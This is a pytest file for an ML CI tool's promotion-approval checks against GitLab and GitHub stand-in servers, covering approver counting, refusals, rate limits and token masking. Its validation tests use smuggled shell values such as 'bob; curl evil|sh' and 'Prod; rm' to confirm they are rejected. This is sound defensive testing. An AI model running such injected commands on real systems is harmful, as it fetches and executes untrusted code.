"""Who promoted and who approved, against the GitLab/GitHub stand-ins: GitLab's deployment approvals counted as
distinct approvers other than the promoter, pending ones refused naming who approved, the job's deployment
found across pages and rate limits, GitHub's run reviews for the environment, the weak variable mode, none,
and the forge's failures (unreachable, 403) as one line without the token."""
from __future__ import annotations

import ast
import json
import logging
import re
import socket
from pathlib import Path

import pytest

from mlci.core import log
from mlci.core.errors import ConfigError, EnvironmentProblem, ExitCode, GateFailed
from mlci.forge import reviews
from mlci.forge.http import ForgeError
from mlci.forge.settings import ForgeSettings
from mlci.promote import approvals as approvals_module
from mlci.promote.approvals import LOCAL_USER, Approvals, approvals, promoted_by
from mlci.promote.settings import Approval, Environment, PromoteSettings, promote_problems
from tests.testing.forge import ForgeServer

ROOT = Path(__file__).resolve().parents[2]
PROJECT = "bank/credit-model"
JOB = 5001
JOB_TOKEN = "glcbt-64_Zx8kQ2jobtokenvalue"
PAT = "glpat-Rk2bN7approvalsreader"
GH_TOKEN = "ghs_Qm4ActionsInstallationToken"
FORGE = Approval(mode="forge", required=2)


def gitlab_env(forge: ForgeServer, **extra: str) -> dict[str, str]:
    """The CI variables of GitLab's promote job for prod, run by alice, with its job token."""
    return {"GITLAB_CI": "true", "CI_API_V4_URL": forge.gitlab_api, "CI_PROJECT_ID": str(forge.add_project(PROJECT)),
            "CI_JOB_ID": str(JOB), "CI_ENVIRONMENT_NAME": "prod", "GITLAB_USER_LOGIN": "alice",
            "CI_JOB_TOKEN": JOB_TOKEN, **extra}


def github_env(forge: ForgeServer, run_id: int, **extra: str) -> dict[str, str]:
    """The CI variables of GitHub's promote job in run `run_id`, with Actions' GITHUB_TOKEN."""
    return {"GITHUB_ACTIONS": "true", "GITHUB_API_URL": forge.github_api, "GITHUB_REPOSITORY": PROJECT,
            "GITHUB_RUN_ID": str(run_id), "GITHUB_ACTOR": "alice", "GITHUB_TRIGGERING_ACTOR": "alice",
            "GITHUB_TOKEN": GH_TOKEN, **extra}


def refused(call: object, *args: object, **kwargs: object) -> str:
    """The one-line message of the GateFailed (exit 1) the call raises."""
    with pytest.raises(GateFailed) as caught:
        call(*args, **kwargs)  # type: ignore[operator]
    assert caught.value.exit_code == ExitCode.GATE_FAILED
    message = str(caught.value)
    assert "\n" not in message
    return message


def test_gitlab_counts_distinct_approvers_never_the_promoter_nor_the_pipeline_creator(forge: ForgeServer) -> None:
    environ = gitlab_env(forge)
    forge.add_job_token(JOB_TOKEN, "alice")
    deployment = forge.add_deployment(PROJECT, "prod", job_id=JOB, job_user="alice", creator="tag-pusher",
                                      rules=[("security", 1), ("qa", 1)])
    forge.add_deployment(PROJECT, "stage", job_id=JOB + 1, job_user="alice")  # another environment's, newer
    forge.approve_deployment(deployment, "alice")  # the triggerer's own (GitLab may allow it): never counted
    forge.approve_deployment(deployment, "bob", represented_as="security")  # listed twice by GitLab: once here
    forge.approve_deployment(deployment, "tag-pusher", represented_as="qa")  # the pipeline's creator
    forge.approve_deployment(deployment, "carol", comment="LGTM")

    got = approvals("prod", FORGE, environ)

    assert [a.login for a in got.approvers] == ["bob", "carol"]  # in the order they approved
    assert all(a.at and a.at.startswith("2024-05-01T12:") for a in got.approvers)
    assert (got.promoter, got.promoter_source, got.mode, got.weak, got.required) == (
        "alice", f"GitLab job {JOB}", "forge", False, 2)
    assert got.source == f"GitLab deployment {deployment} of job {JOB} (environment prod) at {forge.gitlab_api}"
    detail = [r for r in forge.requests if r.path.endswith(f"/deployments/{deployment}")]
    assert len(detail) == 1 and detail[0].header("JOB-TOKEN") == JOB_TOKEN  # a job token goes as JOB-TOKEN
    assert json.loads(json.dumps(got.record()))["approvers"][0]["login"] == "bob"

    message = refused(approvals, "prod", Approval(mode="forge", required=3), environ)
    assert message.startswith(f"promote.environments.prod.approval: 2 of 3 required approval(s) on GitLab deployment "
                              f"{deployment} of job {JOB} (environment prod): approved by bob, carol; not counted: "
                              "alice, tag-pusher (nobody approves their own promotion); to satisfy it, 1 more "
                              "approver(s) other than alice: make 'prod' a protected environment that requires at "
                              "least 3 approvals")


def test_gitlab_pending_approvals_are_a_refusal_naming_who_approved(forge: ForgeServer) -> None:
    environ = gitlab_env(forge)
    forge.add_job_token(JOB_TOKEN, "alice")
    deployment = forge.add_deployment(PROJECT, "prod", job_id=JOB, job_user="alice", status="blocked",
                                      required_approvals=2)
    forge.approve_deployment(deployment, "bob")
    message = refused(approvals, "prod", Approval(mode="forge", required=1), environ)
    assert "1 of 1 required approval(s)" in message and "approved by bob" in message
    assert "GitLab still waits for 1" in message
    assert f"approve deployment {deployment} (Operate > Environments > prod > Approval options)" in message

    forge.approve_deployment(deployment, "alice")  # GitLab's count is met, mlci's (the promoter aside) is not
    forge.set_deployment_status(deployment, "running")
    message = refused(approvals, "prod", FORGE, environ)
    assert "1 of 2 required approval(s)" in message and "approved by bob; not counted: alice" in message

    forge.approve_deployment(deployment, "erin", "rejected", comment="not this one")
    message = refused(approvals, "prod", Approval(mode="forge", required=1), environ)
    assert f"GitLab deployment {deployment} of job {JOB} (environment prod): rejected by erin" in message


def test_gitlab_finds_the_jobs_deployment_across_pages_and_a_rate_limit(
        forge: ForgeServer, monkeypatch: pytest.MonkeyPatch) -> None:
    forge.add_user(PAT, "release-bot", scopes=("read_api",))
    environ = gitlab_env(forge, GITLAB_TOKEN=PAT)
    deployment = forge.add_deployment(PROJECT, "prod", job_id=JOB, job_user="alice")
    forge.approve_deployment(deployment, "bob")
    for n in range(230):  # newer deployments of other jobs, 265 of them prod's
        forge.add_deployment(PROJECT, "prod" if n % 2 else "stage", job_id=JOB + 10 + n, job_user="dave")
    for n in range(150):
        forge.add_deployment(PROJECT, "prod", job_id=JOB + 300 + n, job_user="dave")
    forge.fail_next("GET", r"/deployments$", 429, retry_after=0.2)

    got = approvals("prod", Approval(mode="forge"), environ)

    assert [a.login for a in got.approvers] == ["bob"]
    pages = [r for r in forge.requests if r.path.endswith("/deployments")]
    assert [(r.status, r.query.get("page")) for r in pages] == [
        (429, None), (200, None), (200, ["2"]), (200, ["3"])]  # the job's is the 266th of prod's
    assert all(r.query["environment"] == ["prod"] and r.query["sort"] == ["desc"] for r in pages)
    assert all(r.header("PRIVATE-TOKEN") == PAT for r in forge.requests)  # GITLAB_TOKEN before CI_JOB_TOKEN

    monkeypatch.setattr(reviews, "MAX_DEPLOYMENT_PAGES", 2)
    message = refused(approvals, "prod", Approval(mode="forge"), environ)
    assert f"GitLab has no deployment of job {JOB} among the newest of environment 'prod'" in message


def test_gitlab_job_of_another_environment_or_none_is_refused_before_any_call(forge: ForgeServer) -> None:
    message = refused(approvals, "prod", FORGE, gitlab_env(forge, CI_ENVIRONMENT_NAME="stage"))
    assert "deploys to the GitLab environment 'stage' (CI_ENVIRONMENT_NAME), not 'prod'" in message
    environ = gitlab_env(forge)
    del environ["CI_ENVIRONMENT_NAME"]
    assert "has no GitLab environment (CI_ENVIRONMENT_NAME is not set): give it `environment: prod`" in refused(
        approvals, "prod", FORGE, environ)
    named = Approval(mode="forge", environment="production")
    assert "not 'production'" in refused(approvals, "prod", named, gitlab_env(forge))
    preparing = gitlab_env(forge, CI_ENVIRONMENT_ACTION="prepare")
    assert "makes no deployment" in refused(approvals, "prod", FORGE, preparing)
    assert forge.requests == []


def test_gitlab_free_tier_and_an_overridden_user_login_are_refused(forge: ForgeServer) -> None:
    forge.add_job_token(JOB_TOKEN, "alice")
    deployment = forge.add_deployment(PROJECT, "prod", job_id=JOB, job_user="alice")
    forge.approve_deployment(deployment, "bob")
    message = refused(approvals, "prod", Approval(mode="forge"), gitlab_env(forge, GITLAB_USER_LOGIN="mallory"))
    assert "the forge says alice runs the job, GITLAB_USER_LOGIN says mallory" in message
    forge.set_gitlab_tier("free")
    assert "answered without `approvals`: deployment approvals need GitLab Premium or Ultimate" in refused(
        approvals, "prod", Approval(mode="forge"), gitlab_env(forge))


def test_github_run_reviews_for_the_environment(forge_tls: ForgeServer) -> None:
    forge = forge_tls
    forge.add_installation_token(GH_TOKEN)
    run = forge.add_workflow_run("bank", "credit-model", actor="alice", triggering_actor="dave", run_attempt=2)
    forge.review_run("bank", "credit-model", run, user="carol", environments=["stage"])  # another environment
    forge.review_run("bank", "credit-model", run, user="alice", environments=["Prod"])  # who triggered the run
    forge.review_run("bank", "credit-model", run, user="frank", environments=["prod"], state="pending",
                     comment="looking")
    forge.review_run("bank", "credit-model", run, user="bob", environments=["stage", "prod"])
    environ = github_env(forge, run, GITHUB_TRIGGERING_ACTOR="dave")
    settings = ForgeSettings(ca_bundle=str(forge.ca_bundle))

    got = approvals("prod", Approval(mode="forge"), environ, settings)

    assert [a.login for a in got.approvers] == ["bob"] and got.approvers[0].at is None
    assert (got.promoter, got.promoter_source) == ("dave", f"GitHub run {run}")  # who started the re-run
    assert got.source == f"GitHub run {run} (environment prod) at {forge.github_api}"
    assert all(r.header("Authorization") == f"Bearer {GH_TOKEN}" for r in forge.requests)
    older = {name: value for name, value in environ.items() if name != "GITHUB_TRIGGERING_ACTOR"}
    assert approvals("prod", Approval(mode="forge"), older, settings).promoter == "dave"  # GITHUB_ACTOR: alice
    assert "the forge says dave runs the job, GITHUB_TRIGGERING_ACTOR says mallory" in refused(
        approvals, "prod", Approval(mode="forge"), {**environ, "GITHUB_TRIGGERING_ACTOR": "mallory"}, settings)

    message = refused(approvals, "prod", FORGE, environ, settings)
    assert "1 of 2 required approval(s) on GitHub run" in message and "not counted: alice" in message
    assert "GitHub starts the job after one approval, so approval.required 2 cannot be met there" in message
    forge.review_run("bank", "credit-model", run, user="erin", environments=["prod"], state="rejected")
    assert "rejected by erin" in refused(approvals, "prod", Approval(mode="forge"), environ, settings)


def test_github_token_without_actions_read_is_one_line_naming_the_permission(forge: ForgeServer) -> None:
    forge.add_installation_token(GH_TOKEN, actions="none")
    run = forge.add_workflow_run("bank", "credit-model", actor="alice")
    with pytest.raises(ForgeError) as caught:
        approvals("prod", Approval(mode="forge"), github_env(forge, run))
    message = str(caught.value)
    assert caught.value.exit_code == ExitCode.ENVIRONMENT and "\n" not in message
    assert message.startswith(f"GitHub 403 on GET /repos/{PROJECT}/actions/runs/{run}: Resource not accessible by "
                              "integration (reading a run's reviews needs the `actions: read` permission")
    assert GH_TOKEN not in message


def test_gitlab_token_without_read_api_is_one_line_naming_the_scope(forge: ForgeServer) -> None:
    forge.add_user(PAT, "release-bot", scopes=("read_user",))
    with pytest.raises(ForgeError) as caught:
        approvals("prod", FORGE, gitlab_env(forge, GITLAB_TOKEN=PAT))
    message = str(caught.value)
    assert caught.value.exit_code == ExitCode.ENVIRONMENT and "\n" not in message
    assert "GitLab 403 on GET /projects/" in message and "insufficient_scope: The request requires higher " in message
    assert "needs a token with the `read_api` (or `api`) scope and at least the Reporter role" in message
    forge.set_role(PROJECT, "alice", "guest")
    forge.add_job_token(JOB_TOKEN, "alice")
    with pytest.raises(ForgeError, match=r"GitLab 403 on GET .*: 403 Forbidden \(reading deployments needs"):
        approvals("prod", FORGE, gitlab_env(forge))


def test_unreachable_forge_is_exit_3_in_one_line(monkeypatch: pytest.MonkeyPatch) -> None:
    with socket.socket() as probe:  # a port nothing listens on
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    waits: list[int] = []

    def no_backoff(attempt: int) -> float:
        waits.append(attempt)
        return 0.0

    monkeypatch.setattr("mlci.core.http.backoff", no_backoff)
    environ = {"GITLAB_CI": "true", "CI_API_V4_URL": f"http://127.0.0.1:{port}/api/v4", "CI_PROJECT_ID": "41",
               "CI_JOB_ID": str(JOB), "CI_ENVIRONMENT_NAME": "prod", "GITLAB_USER_LOGIN": "alice",
               "CI_JOB_TOKEN": JOB_TOKEN}
    with pytest.raises(EnvironmentProblem) as caught:
        approvals("prod", FORGE, environ)
    message = str(caught.value)
    assert caught.value.exit_code == ExitCode.ENVIRONMENT and "\n" not in message
    assert message.startswith(f"GitLab: GET /projects/41/deployments failed: 127.0.0.1:{port}: cannot connect: "
                              "Connection refused")
    assert waits == [0, 1, 2, 3]  # retried like every idempotent call, then given up
    assert JOB_TOKEN not in message


def test_no_token_in_any_output(forge: ForgeServer, capsys: pytest.CaptureFixture[str],
                                caplog: pytest.LogCaptureFixture) -> None:
    """Results, refusals, logs and a forge that echoes the token in its error: the token never shows."""
    pat, job_token, gh_token = "glpat-NoLeak7pat", "glcbt-64_NoLeak7job", "ghs_NoLeak7installation"
    assert not {pat, job_token, gh_token} & log.registered_secrets()  # fresh: only this test's calls register them
    forge.add_user(pat, "release-bot")
    forge.add_job_token(job_token, "alice")
    forge.add_installation_token(gh_token)
    deployment = forge.add_deployment(PROJECT, "prod", job_id=JOB, job_user="alice")
    forge.approve_deployment(deployment, "bob")
    run = forge.add_workflow_run("bank", "credit-model", actor="alice")
    forge.review_run("bank", "credit-model", run, user="bob", environments=["prod"])
    texts: list[str] = []
    with caplog.at_level(logging.DEBUG):
        for environ, token in ((gitlab_env(forge, CI_JOB_TOKEN=job_token), job_token),
                               (gitlab_env(forge, GITLAB_TOKEN=pat, CI_JOB_TOKEN=job_token), pat),
                               (github_env(forge, run, GITHUB_TOKEN=gh_token), gh_token)):
            got = approvals("prod", Approval(mode="forge"), environ)
            texts += [json.dumps(got.record()), repr(got)]
            texts.append(refused(approvals, "prod", Approval(mode="forge", required=5), environ))
            forge.fail_next("GET", r"/deployments|/runs/", 403, body={"message": f"bad token {token}"})
            with pytest.raises(ForgeError) as caught:
                approvals("prod", Approval(mode="forge"), environ)
            texts.append(str(caught.value))
    captured = capsys.readouterr()
    texts += [captured.out, captured.err, caplog.text]
    assert sum("bad token [MASKED]" in text for text in texts) == 3
    assert {pat, job_token, gh_token} <= log.registered_secrets()
    for token in (pat, job_token, gh_token):
        assert not any(token in text for text in texts)
    sent = {r.header("JOB-TOKEN") or r.header("PRIVATE-TOKEN") or r.header("Authorization") for r in forge.requests}
    assert sent == {job_token, pat, f"Bearer {gh_token}"}  # the tokens did go to the forge, and only there


def test_variable_mode_is_weak_and_flagged(caplog: pytest.LogCaptureFixture) -> None:
    mode = Approval(mode="variable", variable="MLCI_APPROVER")
    environ = {"GITLAB_USER_LOGIN": "alice", "MLCI_APPROVER": "bob"}
    with caplog.at_level(logging.WARNING):
        got = approvals("prod", mode, environ)
    assert (got.mode, got.weak, got.required, [a.login for a in got.approvers]) == ("variable", True, 1, ["bob"])
    assert (got.promoter, got.promoter_source) == ("alice", "GITLAB_USER_LOGIN")
    assert got.source == "CI variable MLCI_APPROVER (weak: not checked with the forge)"
    assert got.record()["weak"] is True
    assert "approved by bob, as the CI variable MLCI_APPROVER says: a weak approval" in caplog.text
    assert "MLCI_APPROVER is not set" in refused(approvals, "prod", mode, {"GITLAB_USER_LOGIN": "alice"})
    assert "names the promoter, alice" in refused(approvals, "prod", mode, {**environ, "MLCI_APPROVER": "Alice"})
    hostile = refused(approvals, "prod", mode, {**environ, "MLCI_APPROVER": "bob; curl evil|sh"})
    assert "MLCI_APPROVER does not hold a login" in hostile and "curl" not in hostile


def test_none_mode_needs_nothing_and_still_names_the_promoter(monkeypatch: pytest.MonkeyPatch) -> None:
    got = approvals("stage", Approval(), {"GITHUB_ACTOR": "alice", "GITHUB_TRIGGERING_ACTOR": "dave"})
    assert got == Approvals("stage", "none", "dave", "GITHUB_TRIGGERING_ACTOR", (), 0, False,
                            "no approval required (approval.mode none)")
    monkeypatch.setenv("USER", "rm")
    monkeypatch.setenv("LOGNAME", "rm")
    assert promoted_by({}) == ("rm", LOCAL_USER)  # outside CI: the local user, marked as such
    with pytest.raises(EnvironmentProblem, match="GITLAB_USER_LOGIN does not hold a login"):
        promoted_by({"GITLAB_USER_LOGIN": "alice\nbob"})


def test_forge_mode_outside_ci_or_without_a_token() -> None:
    assert "this is neither (no GITLAB_CI, GITHUB_ACTIONS or forge.kind)" in refused(
        approvals, "prod", FORGE, {"GITLAB_USER_LOGIN": "alice"})
    bare = {"GITLAB_CI": "true", "CI_API_V4_URL": "http://127.0.0.1:9/api/v4", "CI_PROJECT_ID": "41",
            "CI_JOB_ID": str(JOB), "CI_ENVIRONMENT_NAME": "prod"}
    with pytest.raises(EnvironmentProblem, match=r"set GITLAB_TOKEN \(forge.token_env\), or run in a GitLab job"):
        approvals("prod", FORGE, bare)
    with pytest.raises(EnvironmentProblem, match="GITHUB_TOKEN needs `permissions: actions: read`"):
        approvals("prod", FORGE, {"GITHUB_ACTIONS": "true", "GITHUB_REPOSITORY": PROJECT, "GITHUB_RUN_ID": "7"})
    with pytest.raises(ConfigError):
        approvals("prod", FORGE, {**bare, "CI_API_V4_URL": "", "CI_JOB_TOKEN": JOB_TOKEN})


def test_config_checks_the_approval_keys() -> None:
    settings = PromoteSettings(environments={"prod": Environment(tags=r"v\d+", approval=Approval(
        mode="variable", variable="bob", environment="production/eu 1"))})
    assert promote_problems(settings) == []  # a lower-case name is a variable's name too
    settings = PromoteSettings(environments={"prod": Environment(tags=r"v\d+", approval=Approval(
        mode="variable", variable="bob smith", environment="Prod; rm"))})
    assert promote_problems(settings) == [
        "promote.environments.prod.approval.variable: must be the NAME of the CI variable that holds the approver, "
        "not the approver",
        "promote.environments.prod.approval.environment: a forge environment's name is letters, digits, spaces and "
        "- _ / . (at most 255), as CI_ENVIRONMENT_NAME shows it"]


def test_docs_list_exactly_the_ci_variables_read() -> None:
    """docs/promote.md's table names every CI variable approvals.py reads (and the forge selection
    it calls), and nothing else."""
    source = Path(approvals_module.__file__)
    name = re.compile(r"(CI|GITLAB|GITHUB)_[A-Z0-9_]+")
    in_code = {node.value for node in ast.walk(ast.parse(source.read_text()))
               if isinstance(node, ast.Constant) and isinstance(node.value, str) and name.fullmatch(node.value)}
    in_code |= {"GITLAB_CI", "GITHUB_ACTIONS", "REQUESTS_CA_BUNDLE"}  # read by mlci.forge.select for it
    section = (ROOT / "docs" / "promote.md").read_text().split("### CI variables", 1)[1].split("\n## ", 1)[0]
    section = section.split("\n### ", 1)[0]
    in_docs = {found for row in section.splitlines() if row.startswith("| `")
               for found in re.findall(r"`([A-Z][A-Z0-9_]+)`", row.split("|")[1])}
    assert in_code == in_docs
